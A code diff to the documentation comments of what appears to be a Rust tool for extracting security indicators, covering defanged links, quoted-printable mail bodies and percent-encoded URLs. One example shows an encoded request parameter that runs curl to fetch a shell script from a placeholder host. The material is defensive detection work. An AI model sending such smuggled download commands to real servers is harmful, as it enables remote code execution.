@@ -41,7 +41,12 @@
 //! Defense v2 and v3, Google's `/url?q=` redirect) is reported as its
 //! destination, with the span of the whole rewritten link and the
 //! `defanged` flag set: the destination is the indicator, the wrapper only
-//! the gateway's.
+//! the gateway's. Other values the text does not show as they are get the
+//! flag too, with the span of what was written: a link in a
+//! quoted-printable mail body (soft line breaks joined, `=3D` decoded; only
+//! after the text named such a body), and a URL percent-encoded in a
+//! request's path (`…?cmd=curl%20https%3A%2F%2Fdl.example%2Ft.sh`). A link
+//! in XML with `&amp;` keeps its span as written and its value has `&`.
 //!
 //! # Why psl for the Public Suffix List
 //!
